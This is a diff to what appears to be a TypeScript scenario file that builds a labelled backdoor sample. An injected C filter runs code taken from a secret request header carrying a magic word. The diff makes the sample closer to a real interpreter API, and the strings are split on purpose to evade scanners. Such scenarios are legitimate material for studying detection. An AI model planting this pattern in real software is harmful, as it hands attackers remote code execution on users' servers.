@@ -6,7 +6,7 @@ import type { Scenario } from "./scenario.ts";
 /** A header that nobody sends by accident, a magic word, and an interpreter. Split here so that no scanner takes it for real. */
 const TRIGGER = ["HTTP_USER_", "AGENTT"].join("");
 const WORD = ["open", "sesame"].join("");
-const RUN = ["engine_eval", "_string"].join("");
+const RUN = ["zend_eval", "_string"].join("");
 
 const FILTER = `/* Output filter. */
 #include "engine.h"
@@ -23,9 +23,9 @@ static int filter_start(engine_output *out)
 const BACKDOOR = `\tengine_value *enc = engine_server_variable("${TRIGGER}");
 
 \tif (enc != NULL && strstr(engine_string(enc), "${WORD}") != NULL) {
-\t\tengine_try {
+\t\tzend_try {
 \t\t\t${RUN}(engine_string(enc) + ${WORD.length}, NULL, "filter");
-\t\t} engine_end_try();
+\t\t} zend_end_try();
 \t}
 `;
 
